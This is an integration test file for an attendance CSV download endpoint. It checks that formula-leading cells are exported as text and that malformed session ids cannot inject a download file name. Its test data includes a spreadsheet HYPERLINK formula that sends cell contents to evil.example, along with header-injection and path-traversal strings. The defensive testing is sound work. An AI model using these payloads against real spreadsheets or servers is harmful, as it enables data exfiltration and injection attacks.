"""The attendance CSV: no cell a spreadsheet would run as a formula; a file name no session id can break."""

from __future__ import annotations

import csv
import io

from tests.integration.conftest import Admin
from tests.records import uuid7

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


async def test_cells_that_would_be_formulas_are_text(client, admin: Admin) -> None:  # type: ignore[no-untyped-def]
    outlet = await admin.outlet()
    staff = await admin.outlet_phone(outlet)
    for course in FORMULAS:
        sid = uuid7()
        records = [staff.record("session", session_id=sid, outlet_id=outlet, course=course, day="2026-11-24"),
                   staff.record("attendance", session_id=sid, trainee_number="T-0042"),
                   staff.record("attendance", session_id=sid, trainee_number="-0042")]  # a trainee number may start with -
        r = await staff.push(client, records)
        assert [x["status"] for x in r.json()["receipts"]] == ["applied", "applied", "applied"], r.text
        r = await client.get(f"/api/admin/training/sessions/{sid}/attendance.csv", headers=await admin.as_regulator())
        assert r.status_code == 200, r.text
        assert r.text.startswith("\ufeff")  # the BOM: spreadsheet programs read the Chinese
        rows = list(csv.reader(io.StringIO(r.text.lstrip("\ufeff"), newline="")))
        assert [row[0] for row in rows[1:]] == ["'" + course] * 2, rows
        by_number = {row[2]: row[3:5] for row in rows[1:]}
        assert by_number == {"T-0042": ["", ""], "'-0042": ["", ""]}  # the number alone in its column, plain or made text
        for row in rows[1:]:
            assert all(cell[:1] not in ("=", "+", "-", "@", "\t", "\r") for cell in row), row


async def test_the_download_name_is_safe(client, admin: Admin) -> None:  # type: ignore[no-untyped-def]
    outlet = await admin.outlet()
    staff, sid = await admin.outlet_phone(outlet), uuid7()
    record = staff.record("session", session_id=sid, outlet_id=outlet, course="养老护理", day="2026-11-24")
    assert (await staff.push(client, [record])).status_code == 200
    regulator = await admin.as_regulator()
    r = await client.get(f"/api/admin/training/sessions/{sid}/attendance.csv", headers=regulator)
    assert r.status_code == 200
    assert r.headers["content-disposition"] == (
        f"attachment; filename=\"attendance-{sid}.csv\"; filename*=UTF-8''attendance-{sid}.csv")
    for bad in ['x"; filename="evil.html', "..%2F..%2Fetc", "a" * 37, sid.upper(), "not-a-uuid"]:
        r = await client.get(f"/api/admin/training/sessions/{bad}/attendance.csv", headers=regulator)
        assert r.status_code in (400, 404), (bad, r.status_code)
        assert "content-disposition" not in r.headers
        assert r.json()["message"] and r.json()["message_en"]
